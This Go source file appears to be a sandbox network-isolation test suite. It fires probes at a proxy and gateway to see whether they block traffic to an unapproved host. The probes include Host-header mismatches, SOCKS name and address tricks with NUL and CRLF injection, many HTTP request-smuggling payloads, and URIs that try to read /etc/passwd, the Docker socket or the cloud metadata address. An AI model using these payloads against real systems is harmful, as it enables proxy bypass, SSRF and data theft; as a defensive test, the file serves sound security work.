//go:build linux

package main

import (
	"fmt"
	"io"
	"net"
	"strconv"
	"strings"

	"github.com/paddock-sandbox/paddock/attack/protocol"
)

// contains reports whether a try saw text.
func contains(t protocol.Try, text string) bool { return strings.Contains(t.Loot+t.Detail, text) }

// served reports whether a server answered a request that contains text.
func served(t protocol.Try, text string) bool {
	for line := range strings.SplitSeq(t.Loot+"\n"+t.Detail, "\n") {
		for _, banner := range []string{protocol.ServerBanner, protocol.HostBanner} {
			if _, answer, ok := strings.Cut(line, banner); ok && strings.Contains(answer, text) {
				return true
			}
		}
	}
	return false
}

// lines joins the lines of a message.
func lines(list ...string) string { return strings.Join(list, "\r\n") + "\r\n\r\n" }

// crossed is N11: the request line and the header name different hosts.
func crossed() []probe {
	// If the request is allowed as it is, the host checks which host is named.
	own := func(t protocol.Try) protocol.Try {
		if t.Outcome == protocol.Reached && !served(t, protocol.Stranger) && !contains(t, protocol.HostBanner) {
			return inside("only what is allowed was asked: %s", t.Detail)
		}
		return t
	}
	proxy := func(list ...string) func(*protocol.Brief) protocol.Try {
		return func(b *protocol.Brief) protocol.Try { return own(viaProxy(b, lines(list...))) }
	}
	plain := func(to string, list ...string) func(*protocol.Brief) protocol.Try {
		return func(b *protocol.Brief) protocol.Try { return own(direct(b, "tcp", to+":80", []byte(lines(list...)))) }
	}
	return []probe{
		{"allowed line, other header", proxy("GET http://allowed.test/ HTTP/1.1", "Host: stranger.test", "Connection: close")},
		{"other line, allowed header", proxy("GET http://stranger.test/ HTTP/1.1", "Host: allowed.test", "Connection: close")},
		{"no line, only a header", proxy("GET / HTTP/1.1", "Host: stranger.test", "Connection: close")},
		{"two headers", proxy("GET http://allowed.test/ HTTP/1.1", "Host: allowed.test", "Host: stranger.test", "Connection: close")},
		{"header with another port", proxy("GET http://allowed.test/ HTTP/1.1", "Host: allowed.test:8080", "Connection: close")},
		{"folded header", proxy("GET http://allowed.test/ HTTP/1.1", "Host: allowed.test", " stranger.test", "Connection: close")},
		{"header after a space", proxy("GET http://allowed.test/ HTTP/1.1", "Host : stranger.test", "Host: allowed.test", "Connection: close")},
		{"header that is empty", proxy("GET http://stranger.test/ HTTP/1.1", "Host:", "Connection: close")},
		{"old protocol", proxy("GET http://stranger.test/ HTTP/1.0", "Host: allowed.test")},
		{"user in the line", proxy("GET http://allowed.test@stranger.test/ HTTP/1.1", "Host: allowed.test", "Connection: close")},
		{"directly, another header", plain(protocol.Allowed, "GET / HTTP/1.1", "Host: stranger.test", "Connection: close")},
		{"directly, another line", plain(protocol.Allowed, "GET http://stranger.test/ HTTP/1.1", "Host: allowed.test", "Connection: close")},
		{"directly, two headers", plain(protocol.Allowed, "GET / HTTP/1.1", "Host: allowed.test", "Host: stranger.test", "Connection: close")},
		{"directly, looked into", plain(protocol.Inspect, "GET /ok HTTP/1.1", "Host: stranger.test", "Connection: close")},
		{"directly, looked into, another line", plain(protocol.Inspect, "GET http://stranger.test/ok HTTP/1.1", "Host: inspect.test", "Connection: close")},
		{"directly, looked into, two headers", plain(protocol.Inspect, "GET /ok HTTP/1.1", "Host: inspect.test", "Host: stranger.test", "Connection: close")},
		{"directly, looked into, the other allowed", plain(protocol.Inspect, "GET /ok HTTP/1.1", "Host: inspect-b.test", "Connection: close")},
		{"directly, slowly", func(b *protocol.Brief) protocol.Try {
			c, err := net.DialTimeout("tcp", protocol.Allowed+":80", waiting(b))
			if err != nil {
				return told(err)
			}
			defer c.Close()
			text := lines("GET / HTTP/1.1", "Host: stranger.test", "Connection: close")
			for i := range len(text) - 1 {
				if _, err := io.WriteString(c, text[i:i+1]); err != nil {
					return told(err)
				}
			}
			return own(say(c, waiting(b), []byte(text[len(text)-1:])))
		}},
	}
}

// socksNames is N13.
func socksNames() []probe {
	try := func(names ...string) func(*protocol.Brief) protocol.Try {
		return func(b *protocol.Brief) protocol.Try {
			return atOnce(names, func(n string) protocol.Try {
				return worst(socks(b, n, 80, web(protocol.Stranger, "/")), socks(b, n, 8080, web(protocol.Stranger, "/")))
			})
		}
	}
	return []probe{
		{"NUL", try("stranger.test\x00.allowed.test", "stranger.test\x00.wild.test", "127.0.0.1\x00.wild.test", "\x00.wild.test", "allowed.test\x00")},
		{"percent", try("stranger.test%00.wild.test", "stranger.test%2e.wild.test", "%73tranger.test", "127.0.0.1%00.wild.test")},
		{"space", try("stranger.test .wild.test", " stranger.test", "stranger.test\t.wild.test", "stranger.test\u00a0.wild.test")},
		{"line ends", try("stranger.test\r\n.wild.test", "stranger.test\n.wild.test", "stranger.test\r.wild.test", "x\r\nHost: stranger.test\r\n.wild.test")},
		{"marks", try("stranger.test/.wild.test", "stranger.test#.wild.test", "stranger.test?.wild.test", "x@stranger.test", "stranger.test:80", "stranger.test\\.wild.test", "[stranger.test]")},
		{"empty and long", try("", ".", strings.Repeat("a", 255), strings.Repeat("a.", 120)+"wild.test", strings.Repeat("a", 64)+".wild.test")},
		{"addresses as names", try("127.0.0.1", "0x7f.1", "2130706433", "::1", "[::1]", "::ffff:127.0.0.1", "169.254.169.254", "11.0.0.67")},
	}
}

// strangeTargets is N14.
func strangeTargets() []probe {
	try := func(dests ...string) func(*protocol.Brief) protocol.Try {
		return func(b *protocol.Brief) protocol.Try {
			return atOnce(dests, func(d string) protocol.Try { return connect(b, d, web(protocol.Stranger, "/")) })
		}
	}
	return []probe{
		{"user", try("allowed.test@stranger.test:80", "allowed.test:80@stranger.test:80", "x:y@stranger.test:80", "allowed.test%40stranger.test:80")},
		{"fragment and query", try("stranger.test#allowed.test:80", "stranger.test:80#.allowed.test:80", "stranger.test:80?allowed.test:80", "stranger.test?x:80")},
		{"path", try("stranger.test/allowed.test:80", "stranger.test:80/allowed.test:80", "stranger.test:80/", "/stranger.test:80", "http://stranger.test:80", "//stranger.test:80")},
		{"backslash", try("stranger.test\\allowed.test:80", "stranger.test:80\\@allowed.test:80", "allowed.test:80\\stranger.test:80")},
		{"NUL and line ends", try("stranger.test\x00.allowed.test:80", "stranger.test:80\x00allowed.test:80", "stranger.test%00.allowed.test:80", "stranger.test%0d%0aallowed.test:80", "stranger.test:80\rHost:allowed.test", "stranger.test\x0b:80")},
		{"several", try("stranger.test:80 allowed.test:80", "stranger.test:80,allowed.test:80", "allowed.test:80:stranger.test:80", "allowed.test:80;stranger.test:80")},
		{"no port, no host", try("stranger.test", ":80", "", "*", "stranger.test:", "[]:80")},
		{"header that differs", func(b *protocol.Brief) protocol.Try {
			return viaProxy(b, lines("CONNECT stranger.test:80 HTTP/1.1", "Host: allowed.test:80")+string(web(protocol.Stranger, "/")))
		}},
		{"a body before the answer", func(b *protocol.Brief) protocol.Try {
			return viaProxy(b, lines("CONNECT stranger.test:80 HTTP/1.1", "Host: stranger.test:80", "Content-Length: 10")+string(web(protocol.Stranger, "/")))
		}},
		{"the gateway itself, and itself through itself", try("127.0.0.1:3128", protocol.GatewayAddr+":3128", protocol.GatewayAddr+":53", protocol.GatewayAddr+":1080", "["+protocol.Gateway6+"]:3128", "0.0.0.0:3128", "198.18.0.2:80", "gateway.test:3128")},
		{"in a chain", func(b *protocol.Brief) protocol.Try {
			c, err := tunnel(b, protocol.Allowed+":80")
			if err != nil {
				return status(err)
			}
			defer c.Close()
			t := say(c, waiting(b), []byte(lines("CONNECT stranger.test:80 HTTP/1.1", "Host: stranger.test:80")))
			return t
		}},
	}
}

// socksLiterals asks for addresses in binary form.
func socksLiterals(b *protocol.Brief) protocol.Try {
	return atOnce([]string{"127.0.0.1", "0.0.0.0", "11.0.0.67", "11.0.0.1", protocol.HostAddr, "169.254.169.254", "::1", "::", "::ffff:127.0.0.1", "64:ff9b::7f00:1", protocol.HostAddr6, "2a00:2::43", protocol.GatewayAddr, "198.18.0.2"}, func(a string) protocol.Try {
		ip, kind := net.ParseIP(a), byte(4)
		if !strings.Contains(a, ":") {
			ip, kind = ip.To4(), 1
		}
		c, err := socksConn(b, 1, kind, ip, 80)
		if err != nil {
			return status(err)
		}
		defer c.Close()
		return say(c, waiting(b), web("x", "/"))
	})
}

// socksRest is N15.
func socksRest() []probe {
	command := func(command, kind byte, addr []byte, port int) func(*protocol.Brief) protocol.Try {
		return func(b *protocol.Brief) protocol.Try {
			c, err := socksConn(b, command, kind, addr, port)
			if err != nil {
				return status(err)
			}
			c.Close()
			return reached("it was agreed to")
		}
	}
	raw := func(data ...string) func(*protocol.Brief) protocol.Try {
		return func(b *protocol.Brief) protocol.Try {
			return atOnce(data, func(d string) protocol.Try {
				c, err := proxyTo(b, protocol.SOCKSPort)
				if err != nil {
					return told(err)
				}
				defer c.Close()
				return say(c, waiting(b)/2, []byte(d))
			})
		}
	}
	page := string(web(protocol.Stranger, "/"))
	return []probe{
		{"addresses by kind", socksLiterals},
		{"BIND", command(2, 1, []byte{0, 0, 0, 0}, 0)},
		{"BIND, a name", command(2, 3, []byte(protocol.Allowed), 80)},
		{"UDP ASSOCIATE", command(3, 1, []byte{0, 0, 0, 0}, 0)},
		{"UDP ASSOCIATE, a name", command(3, 3, []byte(protocol.Datagrams), protocol.EchoPort)},
		{"commands that are none", command(0, 1, []byte{11, 0, 0, 67}, 80)},
		{"resolving", command(0xf0, 3, []byte(protocol.Exfil), 0)},
		{"kinds that are none", command(1, 2, []byte{11, 0, 0, 67}, 80)},
		{"SOCKS4", raw("\x04\x01\x00\x50\x0b\x00\x00\x43x\x00"+page, "\x04\x01\x00\x50\x7f\x00\x00\x01x\x00"+page)},
		{"SOCKS4a", raw("\x04\x01\x00\x50\x00\x00\x00\x01x\x00stranger.test\x00"+page, "\x04\x01\x00\x50\x00\x00\x00\x01x\x00allowed.test\x00"+page)},
		{"a password", raw("\x05\x01\x02\x01\x01x\x01y\x05\x01\x00\x03\x0dstranger.test\x00\x50" + page)},
		{"all in one piece", raw("\x05\x01\x00\x05\x01\x00\x03\x0dstranger.test\x00\x50" + page)},
		{"HTTP to it", raw("GET http://stranger.test/ HTTP/1.1\r\nHost: stranger.test\r\n\r\n", "CONNECT stranger.test:80 HTTP/1.1\r\n\r\n"+page)},
	}
}

// secondRequest is N17: the first request is allowed.
func secondRequest() []probe {
	// Only an answer to the second request counts.
	second := func(t protocol.Try, mark string) protocol.Try {
		if t.Outcome == protocol.Reached && !served(t, mark) {
			return inside("only the first was answered")
		}
		return t
	}
	good := "GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
	proxy := func(next string) func(*protocol.Brief) protocol.Try {
		return func(b *protocol.Brief) protocol.Try {
			c, err := proxyTo(b, protocol.ProxyPort)
			if err != nil {
				return told(err)
			}
			defer c.Close()
			return second(sayTwo(c, b, good+next, ""), protocol.Stranger)
		}
	}
	waits := func(next string) func(*protocol.Brief) protocol.Try {
		return func(b *protocol.Brief) protocol.Try {
			c, err := proxyTo(b, protocol.ProxyPort)
			if err != nil {
				return told(err)
			}
			defer c.Close()
			return second(sayTwo(c, b, good, next), protocol.Stranger)
		}
	}
	in := func(host, first, next string) func(*protocol.Brief) protocol.Try {
		return func(b *protocol.Brief) protocol.Try {
			c, err := net.DialTimeout("tcp", host+":80", waiting(b))
			if err != nil {
				return told(err)
			}
			defer c.Close()
			return second(sayTwo(c, b, first, next), "smuggled")
		}
	}
	ok := "GET /ok HTTP/1.1\r\nHost: inspect.test\r\n\r\n"
	evil := "GET http://stranger.test/smuggled HTTP/1.1\r\nHost: stranger.test\r\nConnection: close\r\n\r\n"
	return []probe{
		{"through the proxy, at once", proxy(evil)},
		{"through the proxy, one after another", waits(evil)},
		{"CONNECT after a request", waits("CONNECT stranger.test:80 HTTP/1.1\r\nHost: stranger.test\r\n\r\n" + string(web(protocol.Stranger, "/smuggled")))},
		{"only another header", waits("GET / HTTP/1.1\r\nHost: stranger.test\r\nConnection: close\r\n\r\n")},
		{"many, the last one bad", proxy(strings.Repeat(good, 20) + evil)},
		{"another path, looked into, at once", in(protocol.Inspect, ok+"GET /smuggled HTTP/1.1\r\nHost: inspect.test\r\n\r\n", "")},
		{"another path, looked into, later", in(protocol.Inspect, ok, "GET /smuggled HTTP/1.1\r\nHost: inspect.test\r\n\r\n")},
		{"another method, looked into", in(protocol.Inspect, ok, "DELETE /ok/smuggled HTTP/1.1\r\nHost: inspect.test\r\n\r\n")},
		{"another host, looked into", in(protocol.Inspect, ok, "GET /ok/smuggled HTTP/1.1\r\nHost: inspect-b.test\r\n\r\n")},
		{"another host, spliced", in(protocol.Allowed, "GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n", "GET /smuggled HTTP/1.1\r\nHost: stranger.test\r\n\r\n")},
		{"another host, spliced, at once", in(protocol.Allowed, "GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: stranger.test\r\n\r\n", "")},
	}
}

// sayTwo sends first, then next after an answer, and then reads everything else.
func sayTwo(c net.Conn, b *protocol.Brief, first, next string) protocol.Try {
	t := say(c, waiting(b), []byte(first))
	if next == "" {
		u := say(c, waiting(b)/2, nil)
		if t.Outcome == protocol.Reached || u.Errno == "closed" || u.Errno == "silent" {
			u.Outcome, u.Errno, u.Detail = t.Outcome, t.Errno, t.Detail
		}
		u.Loot += "\n" + t.Loot
		return u
	}
	if t.Outcome != protocol.Reached {
		return t
	}
	u := say(c, waiting(b), []byte(next))
	return u
}

// smuggling is N18: requests that two parsers end at different bytes.
func smuggling() []probe {
	hidden := func(host string) string {
		return "GET /smuggled HTTP/1.1\r\nHost: " + host + "\r\nX: "
	}
	forms := map[string]func(host string) string{
		"length before chunks": func(h string) string {
			return "Content-Length: " + strconv.Itoa(len(hidden(h))+5) + "\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden(h)
		},
		"chunks before length": func(h string) string {
			body := hidden(h) + "\r\n0\r\n\r\n"
			return fmt.Sprintf("Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n%x\r\n%s", len(hidden(h)), body)
		},
		"two lengths": func(h string) string {
			return fmt.Sprintf("Content-Length: 0\r\nContent-Length: %d\r\n\r\n%s", len(hidden(h)), hidden(h))
		},
		"lengths in a list": func(h string) string {
			return fmt.Sprintf("Content-Length: 0, %d\r\n\r\n%s", len(hidden(h)), hidden(h))
		},
		"length with a sign":     func(h string) string { return "Content-Length: +0\r\n\r\n" + hidden(h) },
		"length in another base": func(h string) string { return "Content-Length: 0x0\r\n\r\n" + hidden(h) },
		"length that overflows":  func(h string) string { return "Content-Length: 18446744073709551616\r\n\r\n" + hidden(h) },
		"negative length":        func(h string) string { return "Content-Length: -1\r\n\r\n" + hidden(h) },
		"folded coding": func(h string) string {
			return "Content-Length: 5\r\nTransfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n" + hidden(h)
		},
		"coding after a space": func(h string) string {
			return "Content-Length: 5\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + hidden(h)
		},
		"coding with a tab": func(h string) string {
			return "Content-Length: 5\r\nTransfer-Encoding:\tchunked\r\n\r\n0\r\n\r\n" + hidden(h)
		},
		"coding with a vertical tab": func(h string) string {
			return "Content-Length: 5\r\nTransfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n" + hidden(h)
		},
		"other coding": func(h string) string {
			return "Content-Length: 5\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + hidden(h)
		},
		"two codings": func(h string) string {
			return "Content-Length: 5\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + hidden(h)
		},
		"chunked twice": func(h string) string {
			return "Transfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n" + hidden(h)
		},
		"coding in quotes": func(h string) string {
			return "Content-Length: 5\r\nTransfer-Encoding: \"chunked\"\r\n\r\n0\r\n\r\n" + hidden(h)
		},
		"bare line feeds": func(h string) string {
			return "X: y\n\nGET /smuggled HTTP/1.1\nHost: " + h + "\n\n"
		},
		"bare carriage returns": func(h string) string {
			return "X: y\r\rGET /smuggled HTTP/1.1\rHost: " + h + "\r\r\r\n\r\n"
		},
		"line end in a header": func(h string) string {
			return "X: y\rTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden(h)
		},
		"NUL in a header": func(h string) string {
			return "Content-Length\x00: 0\r\nX\x00Transfer-Encoding: chunked\r\n\r\n" + hidden(h)
		},
		"chunk extension": func(h string) string {
			return "Transfer-Encoding: chunked\r\n\r\n2;\nxx\r\n" + strconv.FormatInt(int64(len(hidden(h))), 16) + "\r\n0\r\n\r\n" + hidden(h)
		},
		"chunk length that overflows": func(h string) string {
			return "Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\n\r\n0\r\n\r\n" + hidden(h)
		},
		"chunk length in another base": func(h string) string {
			return "Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n" + hidden(h)
		},
		"chunk that ends otherwise": func(h string) string {
			return "Transfer-Encoding: chunked\r\n\r\n1\r\nZX0\r\n\r\n" + hidden(h)
		},
		"trailer that is a length": func(h string) string {
			return "Transfer-Encoding: chunked\r\nTrailer: Content-Length\r\n\r\n0\r\nContent-Length: 50\r\n\r\n" + hidden(h)
		},
		"length of no body": func(h string) string {
			return "Connection: Content-Length\r\nContent-Length: " + strconv.Itoa(len(hidden(h))) + "\r\n\r\n" + hidden(h)
		},
		"expecting": func(h string) string {
			return "Expect: 100-continue\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden(h)
		},
	}
	var ps []probe
	for name, form := range forms {
		ps = append(ps, probe{name, func(b *protocol.Brief) protocol.Try {
			end := "\r\n\r\n"
			tries := atOnce([]string{"proxy", "plain", "TLS"}, func(way string) protocol.Try {
				return notSmuggled(smuggle(b, way, form(protocol.Inspect)+end))
			})
			return tries
		}})
	}
	sortProbes(ps)
	return ps
}

// notSmuggled judges by what was answered.
func notSmuggled(t protocol.Try) protocol.Try {
	if t.Outcome == protocol.Reached && !served(t, "smuggled") {
		return inside("the second was not heard: %s", t.Detail)
	}
	return t
}

// otherSchemes is N27.
func otherSchemes() []probe {
	try := func(uris ...string) func(*protocol.Brief) protocol.Try {
		return func(b *protocol.Brief) protocol.Try {
			return atOnce(uris, func(u string) protocol.Try {
				t := get(b, u, protocol.Allowed)
				if contains(t, "root:") {
					return reached("a file was read")
				}
				return t
			})
		}
	}
	return []probe{
		{"ftp", try("ftp://allowed.test/", "ftp://stranger.test/", "ftp://127.0.0.1/")},
		{"file", try("file:///etc/passwd", "file://allowed.test/etc/passwd", "FILE:/etc/passwd")},
		{"https", try("https://stranger.test/", "https://127.0.0.1/")},
		{"others", try("gopher://stranger.test/", "ws://stranger.test/", "unix:/run/docker.sock", "http+unix://%2frun%2fdocker.sock/", "dict://127.0.0.1:22/", "javascript:x", "data:,x", "about:blank", "ldap://127.0.0.1/")},
		{"none", try("/", "*", "allowed.test", "//stranger.test/", "http:stranger.test", "http:/stranger.test/", "http:///stranger.test/", "http://", "://stranger.test/", "http://stranger.test:80:80/", "")},
		{"spelt otherwise", try("HTTP://stranger.test/", " http://stranger.test/", "http://stranger.test\t/", "hTTp:\\\\stranger.test", "http\x00://stranger.test/")},
		{"not what they seem", try("http://allowed.test:80@stranger.test/", "http://stranger.test#@allowed.test/", "http://stranger.test\\@allowed.test/", "http://allowed.test%00@stranger.test/", "http://allowed.test%2f@stranger.test/", "http://[allowed.test]@stranger.test/")},
	}
}
